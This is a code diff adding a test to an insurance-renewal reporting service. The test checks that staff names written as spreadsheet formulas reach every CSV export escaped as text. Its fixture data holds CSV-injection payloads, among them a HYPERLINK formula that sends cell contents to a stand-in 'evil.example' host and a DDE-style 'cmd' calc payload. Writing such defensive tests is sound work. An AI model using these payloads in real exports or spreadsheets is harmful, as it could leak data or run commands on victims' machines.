@@ -397,3 +397,45 @@ async def test_report_cli_prints_the_same_figures(world: World, database_url, mo
     finally:
         get_settings.cache_clear()
         get_engine.cache_clear()
+
+
+async def test_a_staff_name_written_as_a_formula_reaches_every_csv_export_as_text(api: Api, engine):
+    """CSV formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or CR);
+    every export writes such a cell behind a single quote, so it opens as the text it is."""
+    suffix = uuid.uuid4().hex[:6]
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-2+3"]
+    with Session(engine, expire_on_commit=False) as session:
+        add_org(session, branch_code=f"F{suffix}", branch_name="公式分公司", sub_branch_code=f"FS{suffix}",
+                sub_branch_name="公式支公司")
+        session.commit()
+    people = [add_person(engine, Role.sales, sub_branch_code=f"FS{suffix}", name=name) for name in names]
+    manager = await api.sign_in(add_person(engine, Role.manager, branch_code=f"F{suffix}").id)
+    with Session(engine) as session:
+        for person in people:
+            policy = create_policy(
+                session, policy_no=f"CSV{uuid.uuid4().int % 10**12:012d}", sub_branch_id=person.sub_branch_id,
+                owner_id=person.id, expires_on=date(2026, 3, 10), customer_name="钱多多", phone=unique_phone(),
+                id_number="310101199001011234", plate="沪A00001").policy
+            case = RenewalCase(
+                id=uuid.uuid4(), workflow_id=f"renewal-{policy.policy_no}", policy_id=policy.id,
+                policy_no=policy.policy_no, expiry_date=policy.expires_on, timezone="Asia/Shanghai",
+                sub_branch_id=person.sub_branch_id, stage="FIRST_CONTACT", owner_id=person.id, deputy_id=person.id,
+                started_at=_local(date(2026, 1, 1), 10))
+            session.add(case)
+            session.flush()
+            session.add(Task(id=uuid.uuid4(), case_id=case.id, assignee_id=person.id, kind="call",
+                             stage="FIRST_CONTACT", opens_at=_local(date(2026, 3, 2), 9),
+                             due_at=_local(date(2026, 3, 3), 0), state="open"))
+        session.commit()
+    exports = {path: (await api.get(path, params=MARCH | {"format": "csv"}, headers=manager)).content
+               for path in ("/reports/renewals", "/reports/tasks", "/reports/funnel")}
+    cookie = _console(manager)
+    for url in await _manager_page_files(api, cookie):
+        if "format=csv" in url:
+            exports[url.split("?")[0]] = (await api.get(url, headers=cookie)).content  # the console's
+    assert len(exports) == 6
+    for export, content in exports.items():
+        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], export
+        if "funnel" not in export:  # (the funnel has no names)
+            assert {f"'{name}" for name in names} <= set(cells), export
